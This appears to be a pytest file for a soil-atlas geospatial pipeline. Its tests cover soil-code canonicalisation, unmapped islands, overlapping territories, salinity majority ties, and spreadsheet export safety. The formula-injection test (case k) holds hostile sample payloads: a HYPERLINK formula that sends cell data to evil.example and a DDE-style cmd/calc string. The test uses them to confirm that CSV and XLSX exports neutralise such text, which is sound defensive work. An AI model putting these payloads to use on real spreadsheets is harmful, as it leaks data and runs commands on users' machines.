"""Review cases of issue 21 ("one answer to what is in the product"), cases b, g, h, k and l.

Each test failed on the code before its fix; each builds its small files in tmp_path.
"""

from __future__ import annotations

import datetime as dt

import geopandas as gpd
import numpy as np
import pytest
import shapely

from atlas.intake.inbox import Submission
from atlas.layout import SOIL_MAP_FILE
from checks.registry import load_all
from checks.vector import soil_map_findings

load_all()
BOUNDARY = shapely.box(104.0, 12.0, 105.0, 13.0)


def _submission(folder, files, country="KHM", deliverable="soil_map") -> Submission:
    return Submission(country, deliverable, "2026-04-10", 1, folder, tuple(files), dt.date(2026, 4, 10), "x")


def _values(column) -> list:
    """A column's values with None for missing (GeoPackage text reads back NaN)."""
    return column.astype(object).where(column.notna(), None).tolist()


def test_case_b_own_rsg1_code_never_skips_canonicalisation(tmp_path, programme):
    """A map with its own rsg1_code: the codes it sends go to delivered_rsg1_code, the canonical ones are computed."""
    from atlas.borders.vector import harmonize_region
    from atlas.stages import harmonize_national

    xs = [104.0, 104.25, 104.5, 104.75, 105.0]
    gdf = gpd.GeoDataFrame({
        "unit_id": ["u1", "u2", "u3", "u4"], "rsg1": ["CM", "Lf", "FL", "Gleysols"], "share1": 100,
        "rsg1_code": ["CM", "Lf", "CM", "VR"],  # a legacy FAO-74 code and two codes contradicting rsg1
        "delivered_rsg1": ["x", "y", "z", "w"],  # a column named like ours: never takes the place of ours
    }, geometry=[shapely.box(xs[k], 12.0, xs[k + 1], 13.0) for k in range(4)], crs="EPSG:4326")
    raw = tmp_path / "raw"
    raw.mkdir()
    path = raw / "KHM_soil.gpkg"
    gdf.to_file(path)

    out = tmp_path / "national"
    out.mkdir()
    outputs, _ = harmonize_national(_submission(raw, [path]), programme, out)
    copy = gpd.read_file(outputs["soil_map"], layer="map_units")
    assert outputs["soil_map"].name == SOIL_MAP_FILE
    assert _values(copy["rsg1_code"]) == ["CM", None, "FL", "GL"]  # "Lf" is legacy: not published until correlated
    assert _values(copy["rsg1_name"]) == ["Cambisols", None, "Fluvisols", "Gleysols"]
    assert _values(copy["rsg1_status"]) == ["wrb", None, "wrb", "wrb"]
    assert copy["delivered_rsg1"].tolist() == ["CM", "Lf", "FL", "Gleysols"]
    assert copy["delivered_rsg1_code"].tolist() == ["CM", "Lf", "CM", "VR"]
    assert copy["delivered_delivered_rsg1"].tolist() == ["x", "y", "z", "w"]

    bnd = gpd.GeoDataFrame({"iso3": ["KHM"], "name": ["Cambodia"]}, geometry=[BOUNDARY], crs="EPSG:4326")
    region = harmonize_region({"KHM": copy}, bnd, programme).region.sort_values("unit_id")
    assert _values(region["rsg1_code"]) == ["CM", None, "FL", "GL"]  # the copy is not canonicalised twice
    assert "Lf" not in set(region["rsg1_code"].dropna()) and "VR" not in set(region["rsg1_code"].dropna())

    # validation tells the country its own columns are kept aside, and how many codes contradict rsg1
    findings = soil_map_findings(path, programme, "KHM", BOUNDARY)
    own = [f for f in findings if f.check_id == "wrb.own_canonical_columns"]
    assert own and "delivered_rsg1_code" in own[0].message and "computed from rsg1 in 3 features" in own[0].message
    assert own[0].severity.value == "warning" and own[0].location.feature == "u2,u3,u4"


def _territories(**shapes) -> gpd.GeoDataFrame:
    return gpd.GeoDataFrame({"iso3": list(shapes), "name": list(shapes)}, geometry=list(shapes.values()),
                            crs="EPSG:4326")


def _units(boxes, groups, prefix="U") -> gpd.GeoDataFrame:
    return gpd.GeoDataFrame({"unit_id": [f"{prefix}{k}" for k in range(len(boxes))], "rsg1": groups, "share1": 100},
                            geometry=boxes, crs="EPSG:4326")


def test_case_h_unmapped_island_offshore_stays_unmapped(programme):
    """A small island 110 km off the coast that the country did not map never takes a mainland unit's group."""
    from atlas.borders.vector import area_km2, harmonize_region

    mainland, island = shapely.box(0.0, 0.0, 1.0, 1.0), shapely.box(1.99, 0.49, 2.01, 0.51)  # ~2 km wide, ~5 km2
    bnd = _territories(AAA=shapely.MultiPolygon([mainland, island]))
    soil = _units([shapely.box(0.0, 0.0, 0.5, 1.0), shapely.box(0.5, 0.0, 1.0, 1.0)], ["CM", "FL"])
    res = harmonize_region({"AAA": soil}, bnd, programme)

    mapped = area_km2(res.region.geometry.values.to_numpy()).sum()
    assert mapped == pytest.approx(area_km2([mainland])[0], rel=1e-9)  # the island is in no unit
    assert not res.region.geometry.intersects(island).any()
    assert "gap_filled" not in set(res.changes["kind"])
    left = res.changes[res.changes["kind"] == "gap_left"]
    assert len(left) == 1 and left["area_km2"].iloc[0] == pytest.approx(area_km2([island])[0], rel=1e-6)
    found = [f for f in res.findings if f.check_id == "harmonize.gap_left"]
    assert len(found) == 1
    f = found[0]
    assert f.location.feature == "AAA" and island.contains(shapely.Point(f.location.lon, f.location.lat))
    assert f.observed["area_km2"] == pytest.approx(area_km2([island])[0], abs=1e-3)
    assert 100 < f.observed["distance_km"] < 115  # 0.99° of longitude at the equator: about 110 km
    assert "stays unmapped" in f.message


def test_case_g_overlapping_reference_territories_count_once(programme):
    """A strip both reference territories claim counts once in the Soil Atlas, for the country the grid gives it."""
    from affine import Affine

    from atlas.borders.raster_rules import country_raster
    from atlas.borders.vector import area_km2, harmonize_region
    from atlas.grid import Grid

    a, b = shapely.box(0.0, 0.0, 1.0, 1.0), shapely.box(0.9, 0.0, 2.0, 1.0)  # 0.9-1.0: claimed by both
    strip = shapely.box(0.9, 0.0, 1.0, 1.0)
    bnd = _territories(BBB=b, AAA=a)  # the layer's own order is not the rule
    maps = {"BBB": _units([b], ["FL"], "B"), "AAA": _units([a], ["CM"], "A")}  # both map the strip
    res = harmonize_region(maps, bnd, programme)

    land = area_km2([shapely.union_all([a, b])])[0]
    assert area_km2(res.region.geometry.values.to_numpy()).sum() == pytest.approx(land, rel=1e-6)
    in_strip = res.region[shapely.area(shapely.intersection(res.region.geometry.values.to_numpy(), strip)) > 1e-9]
    assert in_strip["country"].tolist() == ["AAA"]

    # the raster rule gives the strip's pixels to the same country
    grid = Grid("EPSG:4326", Affine(0.05, 0, 0.0, 0, -0.05, 1.0), 40, 20)
    idx = country_raster(bnd, grid, ["AAA", "BBB"])
    assert set(np.unique(idx[:, 18:20])) == {1}  # columns 0.90-1.00: index 1 is AAA

    found = [f for f in res.findings if f.check_id == "harmonize.territory_overlap"]
    assert {f.location.feature for f in found} == {"AAA", "BBB"}
    for f in found:
        assert "AAA" in f.message and "BBB" in f.message
        assert f.observed["area_km2"] == pytest.approx(area_km2([strip])[0], rel=1e-4)
        assert f.observed["counted_for"] == "AAA" and f.severity.value == "warning"


HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _live_csv_cells(path) -> list[str]:
    """Cells of a CSV file a spreadsheet would run: text starting like a formula that is not a plain number."""
    import csv
    import re

    number = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?")
    with open(path, newline="", encoding="utf-8") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    return [c for c in cells if c.startswith(FORMULA_START) and not number.fullmatch(c)]


def _live_xlsx_cells(path) -> list:
    from openpyxl import load_workbook

    wb = load_workbook(path)
    return [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f" or (isinstance(c.value, str) and c.value.startswith(FORMULA_START))]


def test_case_k_country_text_never_reaches_a_spreadsheet_as_a_formula(tmp_path, programme):
    """Unit ids, class names and legend text starting with = + - @ are written as text in every CSV and XLSX."""
    import pandas as pd

    from atlas.borders.adjacency import adjacency
    from atlas.borders.edges import border_mismatches
    from atlas.borders.vector import harmonize_region
    from atlas.ledger.accuracy import write_accuracy_table
    from atlas.products.area_stats import write_area_tables
    from atlas.products.soil_atlas import write_soil_atlas
    from checks.crosswalk import read_crosswalk, template_csv

    # west of Greenwich, so lon values are negative numbers that must stay numbers
    bnd = _territories(AAA=shapely.box(-2.0, 0.0, -1.0, 1.0), BBB=shapely.box(-1.0, 0.0, 0.0, 1.0))
    a = gpd.GeoDataFrame({"unit_id": [HOSTILE, "@SUM(1+1)*cmd|' /C calc'!A0"], "rsg1": ["CM", "LP"], "share1": 100,
                          "note": ["+1+2", "\tTAB"]},
                         geometry=[shapely.box(-2.0, 0.0, -1.0, 0.5), shapely.box(-2.0, 0.5, -0.98, 1.0)],
                         crs="EPSG:4326")
    b = gpd.GeoDataFrame({"unit_id": ["-2+3", "-7"], "rsg1": ["FL", "AC"], "share1": 100},
                         geometry=[shapely.box(-1.0, 0.0, 0.0, 0.5), shapely.box(-1.0, 0.5, 0.0, 1.0)],
                         crs="EPSG:4326")
    res = harmonize_region({"AAA": a, "BBB": b}, bnd, programme)
    seg, summary = border_mismatches(res.region, bnd, adjacency(bnd), programme)
    paths = write_soil_atlas(res, {"AAA": 1, "BBB": 1}, tmp_path / "atlas", seg, summary)
    mismatches = pd.read_csv(paths["border_mismatches"])
    assert len(mismatches) == 2 and f"'{HOSTILE}" in set(mismatches["unit_a"])
    assert "'-2+3" in set(mismatches["unit_b"])
    assert mismatches["lon"].dtype == float and (mismatches["lon"] < 0).all()  # numbers stay numbers
    log = pd.read_csv(paths["harmonization_log"])
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in set(log["unit_id"]) and (log["lon"] < 0).all()
    for name in ("border_mismatches", "harmonization_log", "border_summary"):
        assert _live_csv_cells(paths[name]) == [], name

    areas = pd.DataFrame({"iso3": ["AAA", "BBB"], "class_name": [HOSTILE, "\rCR"], "area_km2": [-1.5, 2.0]})
    tables = write_area_tables({"salinity_class_areas": areas}, tmp_path / "tables")
    assert _live_csv_cells(tables["salinity_class_areas"]) == []
    assert _live_xlsx_cells(tables["xlsx"]) == []
    from openpyxl import load_workbook

    sheet = load_workbook(tables["xlsx"])["salinity_class_areas"]
    assert sheet["B2"].value == f"'{HOSTILE}" and sheet["C2"].value == -1.5  # text shown as text, number a number

    rows = [{"country": "AAA", "country_name": "A", "version": 1, "layer": HOSTILE, "depth": "0-30",
             "statistic": "+RMSE", "value": -0.25}]
    for path in write_accuracy_table(rows, tmp_path / "accuracy"):
        live = _live_csv_cells(path) if path.suffix == ".csv" else _live_xlsx_cells(path)
        assert live == [], path.name

    # the crosswalk template goes to the country and comes back: neutralised on the way out, plain on the way in
    text = template_csv([{"legacy_class": "=1+2", "legend": "national legend", "features": 1, "area_km2": 1.0,
                          "suggested_rsg": "", "suggested_name": "", "rsg_code": ""}])
    assert "'=1+2" in text
    filled = tmp_path / "crosswalk.csv"
    filled.write_text(text.replace("'=1+2,national legend,1,1.0,,,", "'=1+2,national legend,1,1.0,,,CM"),
                      encoding="utf-8")
    assert read_crosswalk(filled).targets == {"=1+2": "CM"}

    # the status table: a name is text, whoever wrote it
    from atlas.ledger.exports import write_csv, write_xlsx
    from atlas.ledger.schema import StatusRow

    status = [StatusRow("AAA", HOSTILE, "soil_map", "accepted", 1, dt.date(2026, 4, 10), None, 1, 1, None,
                        dt.date(2026, 6, 30), False, best_state="accepted", best_version=1,
                        best_received=dt.date(2026, 4, 10))]
    assert _live_csv_cells(write_csv(status, tmp_path / "status.csv")) == []
    assert _live_xlsx_cells(write_xlsx(status, tmp_path / "status.xlsx", programme, dt.date(2026, 5, 1))) == []


def test_case_l_majority_tie_is_decided_in_programme_classes(tmp_path, programme):
    """Two countries, the same map, numbered differently: a 50/50 cell gets the same class, the more severe one."""
    import rasterio
    from affine import Affine

    from atlas.borders.raster import harmonize_salinity

    res = 1.0 / 120.0
    code = {name: c for c, name in programme.salinity.classes.items()}
    got = {}
    # the GSP script numbers classes by the alphabetical rank of the names present, so numbering varies
    for iso3, table in (("KHM", {1: "ModerateSalinity", 2: "SlightSalinity"}),
                        ("THA", {1: "SlightSalinity", 2: "ModerateSalinity"})):
        folder = tmp_path / iso3
        folder.mkdir()
        by_name = {name: c for c, name in table.items()}
        data = np.full((10, 20), by_name["SlightSalinity"], dtype="uint8")  # 3 arc-second pixels: 2 grid cells
        data[:, 5:10] = by_name["ModerateSalinity"]  # left cell: 50 slight, 50 moderate, a tie
        data[:, 10:17] = by_name["ModerateSalinity"]  # right cell: 70 moderate, 30 slight
        path = folder / f"{iso3}_GSSmap_SAS_0-30.tif"
        with rasterio.open(path, "w", driver="GTiff", width=20, height=10, count=1, dtype="uint8",
                           crs="EPSG:4326", transform=Affine(res / 10, 0, 104.0, 0, -res / 10, 12.0),
                           nodata=255) as dst:
            dst.write(data, 1)
        lut = folder / "saltaffected_LUT0_30.txt"
        lut.write_text('"classcode" "mapvalue"\n' + "".join(f'{c} "{n}"\n' for c, n in table.items()))
        sub = Submission(iso3, "salinity_map", "2026-03-02", 1, folder, (path, lut), dt.date(2026, 3, 2), "x")
        out, findings = harmonize_salinity(sub, programme, tmp_path / "out" / iso3)
        assert any(f.check_id == "harmonize.aggregated" for f in findings)
        with rasterio.open(out[("SAS", "0-30")]) as src:
            got[iso3] = src.read(1)
    assert got["KHM"].shape == (1, 2)
    np.testing.assert_array_equal(got["KHM"], got["THA"])  # the numbering decides nothing
    assert got["KHM"][0, 0] == code["ModerateSalinity"]  # the tie: the more severe class
    assert got["KHM"][0, 1] == code["ModerateSalinity"]  # a plain majority

    # and every tabular writer of the pipeline goes through atlas.cells (a new writer cannot forget it)
    from pathlib import Path

    root = Path(__file__).resolve().parents[1]
    writers = ("to_csv(", "DictWriter(", "csv.writer(", "Workbook(", "ExcelWriter(")
    for path in [*(root / "atlas").rglob("*.py"), *(root / "checks").rglob("*.py")]:
        text = path.read_text(encoding="utf-8")
        if "demo" in path.relative_to(root).parts or path.name == "cells.py":
            continue  # the demo writes the inbox's own inputs, not exports
        if any(w in text for w in writers):
            assert "from atlas.cells import" in text, f"{path.relative_to(root)} writes a table without atlas.cells"
